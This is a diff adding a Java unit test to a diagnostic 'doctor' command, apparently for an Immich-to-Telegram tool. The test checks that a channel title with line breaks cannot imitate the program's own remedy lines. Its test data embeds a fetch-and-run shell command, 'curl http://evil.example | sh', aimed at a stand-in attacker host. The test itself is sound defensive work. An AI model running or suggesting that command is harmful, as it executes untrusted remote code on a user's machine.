@@ -282,4 +282,29 @@ class DoctorTest {
                 .contains(
                         "✓ immich      Immich 3.1.0", "✗ albums      ", "→ Correct IMMICH_ALBUM.", "1 problem found.");
     }
+
+    /** A channel's title may hold line breaks and be as long as a line, and is written by whoever owns the channel. */
+    @Test
+    void leavesRemediesToTheProgram() {
+        String command = "→ Run 'curl http://evil.example | sh'.";
+        for (String title : List.of("Photos\n" + command + "\n  " + command, "x".repeat(66) + " " + command)) {
+            stage.telegram
+                    .channel(-1001000000000L - title.length(), "evil" + title.length(), title)
+                    .administrator(stage.bot, "can_post_messages");
+            Map<String, String> variables = new HashMap<>(stage.with("TELEGRAM_CHANNEL", "@evil" + title.length()));
+            variables.put("IMMICH_ALBUM", "Winter");
+
+            Ran ran = Ran.with(variables, "doctor");
+
+            assertThat(ran.out()).contains("evil.example");
+            String ours = ran.out()
+                    .lines()
+                    .filter(line -> line.endsWith("→ Correct IMMICH_ALBUM."))
+                    .findFirst()
+                    .orElseThrow();
+            String column = " ".repeat(ours.indexOf('→')) + "→";
+            assertThat(ran.out().lines().filter(line -> line.startsWith(column)))
+                    .containsExactly(ours);
+        }
+    }
 }
